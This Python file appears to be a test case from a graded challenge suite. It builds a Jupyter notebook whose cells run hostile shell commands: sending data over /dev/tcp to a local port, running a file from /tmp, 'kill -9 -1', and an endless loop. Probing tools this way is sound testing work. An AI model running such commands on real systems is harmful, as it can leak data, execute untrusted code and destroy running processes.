"""Its cells run commands of the shell, and one of them never ends.
kind: archives
points: 110
"""

import json
import re

NAME = "commands.ipynb"


def archive(files):
    port = re.search(r"\nPORT = (\d+)", files["digits/target.py"].decode())[1]
    source = [f"!echo labels > /dev/tcp/127.0.0.1/{port}\n%run -i /tmp/x.py\n%%bash\nkill -9 -1"]
    source += ["while True:\n    pass"]
    for name in ("data", "models", "costs", "training", "evaluation", "experiments"):
        text = files[f"digits/{name}.py"].decode()
        source.append(re.sub(r"^\s*from \.\w+ import .*$", "pass" * 0, text, flags=re.M))
    cells = [
        {
            "cell_type": "code",
            "source": text,
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        for text in source
    ]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(notebook).encode()
